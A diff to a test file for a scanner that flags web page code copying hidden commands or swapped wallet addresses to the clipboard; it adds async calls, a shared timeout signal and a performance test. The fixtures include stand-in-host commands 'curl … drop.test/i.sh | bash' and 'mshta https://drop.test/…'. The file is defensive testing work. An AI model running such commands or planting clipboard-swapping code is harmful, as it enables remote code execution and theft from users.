@@ -4,6 +4,7 @@ import { scanHtml } from '../html/scanHtml.ts'
 import { hiddenCopies } from './copiedTexts.ts'
 import { unfold } from './obfuscation.ts'
 
+const signal = AbortSignal.timeout(60_000)
 const SHOWN = '0x00000000000000000000000000000000000000aa'
 const OTHER = '0x00000000000000000000000000000000000000bb'
 const COMMAND = 'curl -s https://drop.test/i.sh | bash'
@@ -81,9 +82,10 @@ describe('what code copies and the page does not show', () => {
     ['a contract in code', `const token = '${OTHER}'; navigator.clipboard.writeText(link)`, `Send to ${SHOWN}`],
   ]
   for (const [what, code, text, ...expected] of cases) {
-    it(`${what}: ${expected.join(', ') || 'nothing'}`, () => {
+    it(`${what}: ${expected.join(', ') || 'nothing'}`, async () => {
+      const found = await hiddenCopies([unfold('inline', code)], text, { signal })
       assert.deepEqual(
-        hiddenCopies([unfold('inline', code)], text).map(({ kind }) => kind),
+        found.map(({ kind }) => kind),
         expected,
       )
     })
@@ -92,8 +94,9 @@ describe('what code copies and the page does not show', () => {
 
 describe('what code copies from an element', () => {
   const kinds = async (html: string, code: string) => {
-    const { text, hiddenTexts } = await scanHtml(html, AbortSignal.timeout(60_000))
-    return hiddenCopies([unfold('inline', code)], text, hiddenTexts).map(({ kind }) => kind)
+    const { text, hiddenTexts } = await scanHtml(html, signal)
+    const found = await hiddenCopies([unfold('inline', code)], text, { hidden: hiddenTexts, signal })
+    return found.map(({ kind }) => kind)
   }
   const COPIES = `box.onclick = () => { document.querySelector('#c').select(); document.execCommand('copy') }`
 
@@ -110,5 +113,20 @@ describe('what code copies from an element', () => {
     assert.deepEqual(await kinds(twice, COPIES), [])
     assert.deepEqual(await kinds(`<pre id="c" style="display:none">${COMMAND}</pre>`, COPIES), [])
     assert.deepEqual(await kinds(`<textarea id="c" style="left:-9999px">Save water, 2024</textarea>`, COPIES), [])
+  })
+})
+
+describe('a page of a megabyte that copies and names a great deal', () => {
+  it('is looked through in little time, and others have their turn', async () => {
+    const names = Array.from({ length: 200 }, (_, at) => `var n${at}='mshta https://drop.test/${at}';`).join('')
+    const code = `${names}${'navigator.clipboard.writeText(n1);'.repeat(20)}${'ab ;'.repeat(45_000)}`
+    const codes = Array.from({ length: 6 }, () => ({ where: 'inline', text: code, decoded: '', unfolded: code }))
+    let turns = 0
+    const timer = setInterval(() => turns++, 1)
+    const before = process.cpuUsage()
+    await hiddenCopies(codes, 'Install', { signal })
+    clearInterval(timer)
+    assert.ok(process.cpuUsage(before).user < 2_000_000)
+    assert.ok(turns > 0)
   })
 })
